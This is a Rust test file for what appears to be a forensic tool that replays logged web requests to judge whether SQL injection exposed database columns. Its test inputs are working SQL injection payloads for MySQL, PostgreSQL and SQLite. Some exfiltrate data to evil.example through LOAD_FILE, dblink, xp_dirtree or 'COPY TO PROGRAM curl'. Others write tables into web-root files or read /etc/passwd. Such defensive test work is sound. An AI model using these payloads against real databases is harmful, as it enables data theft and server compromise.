//! Statements whose result leaves by another way than the page: what they name is possible unless they were not run.

use kintsugi_case::{EndpointSpec, Exposure, Shows, Technique};
use kintsugi_evidence::{QueryError, QueryLine};

use super::{Line, Written, investigation_in, item, replay_of};
use crate::dialect::Dialect::{self, MySql, PostgreSql, Sqlite};
use crate::query::Queries;

/// What follows for the people: columns and verdict, if it is the same of each, and the reason.
fn told(written: &Written) -> String {
    // A call that sends may stand in a condition: what that answers is another matter.
    let is_way = |one: &&Exposure| written.bases[one.basis.0 as usize - 1].technique != Technique::BooleanBlind;
    let people: Vec<_> = written.exposures.iter().filter(|one| one.table == 1).filter(is_way).collect();
    let Some(first) = people.first() else { return String::new() };
    assert!(
        people.len().is_multiple_of(5) && people.iter().all(|one| one.columns == first.columns && one.verdict == first.verdict)
    );
    let names = ["id", "name", "code"];
    let columns: Vec<&str> = first.columns.iter().map(|at| names[at]).collect();
    let reason = &written.bases[first.basis.0 as usize - 1].reason;
    let begins: Vec<&str> = reason.split(' ').take(9).collect();
    format!("{} {}: {}", columns.join(","), first.verdict.name(), begins.join(" "))
}

fn line(value: &str, status: u16) -> Line {
    let coded: String = value.bytes().map(|byte| format!("%{byte:02X}")).collect();
    Line { target: format!("/item?id={coded}"), status, bytes: 546, took_ms: None }
}

/// One request with this value on a page that is written down, and on one that is not.
fn check(dialect: Dialect, value: &str, status: u16, expected: &str) {
    let page = item(Shows::Rows);
    for pages in [std::slice::from_ref(&page), &[]] {
        let written = replay_of(investigation_in(pages, dialect), &[line(value, status)]);
        assert_eq!(told(&written), expected, "{value}");
    }
}

const SENT: &str = "possible: the statement has the database itself send what it";
const FILED: &str = "possible: the statement writes what it asks for into a";
const COPIED: &str = "possible: the statement copies what it asks for into a";
const RUN: &str = "possible: the statement hands what it asks for to a";

#[test]
fn what_the_database_sends_out_by_itself_is_possible_whatever_the_page() {
    for status in [200, 302, 500] {
        let lookup = "5 AND LOAD_FILE(CONCAT('\\\\\\\\',(SELECT name FROM people LIMIT 3,1),'.evil.example\\\\a'))-- -";
        check(MySql, lookup, status, &format!("name {SENT}"));
        let union = "-1 UNION SELECT 1,LOAD_FILE(CONCAT(0x5c5c,(SELECT HEX(code) FROM people LIMIT 1),0x2e6576696c5c61))-- -";
        check(MySql, union, status, &format!("code {SENT}"));
        let connect =
            "5 AND 1=(SELECT 1 FROM dblink_connect('host='||(SELECT name FROM people LIMIT 1)||'.evil.example user=a'))";
        check(PostgreSql, connect, status, &format!("name {SENT}"));
        let stacked = "5;SELECT dblink_connect('host='||(SELECT name FROM people LIMIT 1)||'.evil.example user=a')--";
        check(PostgreSql, stacked, status, &format!("name {SENT}"));
        let share = "5;DECLARE @q varchar(99);SET @q=(SELECT TOP 1 name FROM people);EXEC('master..xp_dirtree \"//'+@q+'.evil.example/a\"')--";
        check(PostgreSql, share, status, &format!("name {SENT}"));
        let curl = "5;COPY (SELECT name FROM people) TO PROGRAM 'curl -d @- evil.example'--";
        check(PostgreSql, curl, status, &format!("name {RUN}"));
    }
}

#[test]
fn what_is_written_or_copied_is_possible_whatever_the_page() {
    for status in [200, 302, 500] {
        let copy = "5;COPY (SELECT id,name FROM people) TO '/var/www/html/x.csv'--";
        check(PostgreSql, copy, status, &format!("id,name {FILED}"));
        check(PostgreSql, "5;COPY people TO '/var/www/html/x.csv'--", status, &format!("id,name,code {FILED}"));
        check(
            MySql,
            "-1 UNION SELECT id,name FROM people INTO OUTFILE '/var/www/x.txt'-- -",
            status,
            &format!("id,name {FILED}"),
        );
        check(
            MySql,
            "-1/**/union/**/select/**/id,name/**/from/**/people/**/into/**/dumpfile/**/0x2f78#",
            status,
            &format!("id,name {FILED}"),
        );
        check(Sqlite, "5;VACUUM INTO '/var/www/x.db'--", status, &format!("id,name,code {FILED}"));
        let attach = "5;ATTACH DATABASE '/var/www/x.php' AS x;CREATE TABLE x.y AS SELECT * FROM people WHERE id=11--";
        check(Sqlite, attach, status, &format!("id,name,code {FILED}"));
        check(
            MySql,
            "5;INSERT INTO comments(text) SELECT CONCAT(name,code) FROM people#",
            status,
            &format!("name,code {COPIED}"),
        );
        check(PostgreSql, "5;CREATE TABLE x AS TABLE people--", status, &format!("id,name,code {COPIED}"));
        check(MySql, "5;UPDATE items SET title=(SELECT name FROM people LIMIT 1)#", status, &format!("name {COPIED}"));
    }
}

#[test]
fn what_was_refused_took_nothing() {
    let refused = "name excluded: the server refused the request";
    for status in [401, 403, 406, 429] {
        check(PostgreSql, "5;COPY (SELECT name FROM people) TO '/x'--", status, refused);
        check(MySql, "5 AND LOAD_FILE(CONCAT(0x5c5c,(SELECT name FROM people LIMIT 1),0x2e61))", status, refused);
    }
}

#[test]
fn a_page_that_is_not_there_asks_no_database() {
    let value = "5;COPY (SELECT name FROM people) TO '/x'--";
    let of = |pages: &[EndpointSpec], statuses: &[u16]| {
        let lines: Vec<Line> = statuses.iter().map(|status| line(value, *status)).collect();
        told(&replay_of(investigation_in(pages, PostgreSql), &lines))
    };
    assert_eq!(of(&[], &[404]), "name excluded: the server refused the request: it has no such");
    // It has answered before: it finds nothing for this value.
    assert_eq!(of(&[], &[404, 200]), format!("name {FILED}"));
    assert_eq!(of(&[item(Shows::Rows)], &[404]), format!("name {FILED}"));
}

#[test]
fn a_single_statement_is_enough_where_it_is_no_question() {
    let page = item(Shows::Exists);
    let written = replay_of(investigation_in(&[page], PostgreSql), &[line("5;COPY (SELECT name FROM people) TO '/x'--", 302)]);
    assert_eq!(told(&written), format!("name {FILED}"));
}

#[test]
fn a_page_that_writes_keeps_what_is_asked_for_inside() {
    let page = EndpointSpec { sql: "INSERT INTO comments (text) VALUES ('{p}')".into(), ..item(Shows::Nothing) };
    let written = replay_of(investigation_in(&[page], MySql), &[line("x',(SELECT name FROM people LIMIT 1))-- -", 302)]);
    assert_eq!(told(&written), format!("name {COPIED}"));
}

#[test]
fn a_text_that_is_run_as_sql_is_read() {
    let hex: String = "SELECT name FROM people".bytes().map(|byte| format!("{byte:02x}")).collect();
    let replayed = |value: &str, dialect| told(&replay_of(investigation_in(&[item(Shows::Rows)], dialect), &[line(value, 200)]));
    let prepared = replayed(&format!("5;SET @q=0x{hex};PREPARE p FROM @q;EXECUTE p#"), MySql);
    assert!(prepared.starts_with("name possible: the statement could not be replayed"), "{prepared}");
    let spelled: Vec<String> = "COPY people TO '/x'".bytes().map(|byte| format!("CHR({byte})")).collect();
    let run = replayed(&format!("5;DO $a$BEGIN EXECUTE {}; END$a$--", spelled.join("||")), PostgreSql);
    assert!(run.starts_with("id,name,code possible"), "{run}");
}

#[test]
fn what_names_no_table_exposes_nothing() {
    check(MySql, "-1 UNION SELECT 1,LOAD_FILE('/etc/passwd')-- -", 200, "");
    check(PostgreSql, "5;COPY (SELECT '') TO PROGRAM 'nslookup evil.example'--", 200, "");
    check(MySql, "5 LIMIT 0,1 INTO OUTFILE '/var/www/x.php' LINES TERMINATED BY 0x3c3f-- -", 200, "");
}

#[test]
fn the_query_log_says_whether_it_ran() {
    let value = "5;COPY (SELECT name FROM people) TO '/x'--";
    let logged = |text: String, code: &str| {
        let error = (!code.is_empty()).then(|| QueryError { code: code.into(), ..QueryError::default() });
        QueryLine { at_ms: Some(0), text: text.into_bytes(), error, ..QueryLine::default() }
    };
    let replayed = |own: &str, log: &[QueryLine]| {
        let page = EndpointSpec { sql: own.into(), ..item(Shows::Rows) };
        let mut all: Vec<QueryLine> = log.to_vec();
        let visits: Vec<String> = (20..30).map(|id| id.to_string()).collect();
        all.extend(visits.iter().map(|id| logged(own.replace("{p}", id), "")));
        let mut lines = vec![line(value, 200)];
        lines.extend(visits.iter().map(|id| Line { target: format!("/item?id={id}"), status: 200, bytes: 500, took_ms: None }));
        let mut investigation = investigation_in(std::slice::from_ref(&page), MySql);
        investigation.know(Queries::of_lines(&all, &[page]).executed);
        told(&replay_of(investigation, &lines))
    };
    let own = "SELECT id, title FROM items WHERE id={p}";
    let whole = own.replace("{p}", value);
    let refused = "name excluded: the query log says that the database refused the";
    assert_eq!(replayed(own, &[logged(whole.clone(), "1142")]), refused);
    assert_eq!(replayed(own, &[logged(whole, "")]), format!("name {FILED}"));
    assert_eq!(replayed(own, &[]), "name excluded: the query log has the ordinary statements of this");
    // A log that has each statement by itself.
    assert_eq!(replayed(own, &[logged(own.replace("{p}", "5"), "")]), format!("name {FILED}"));
}
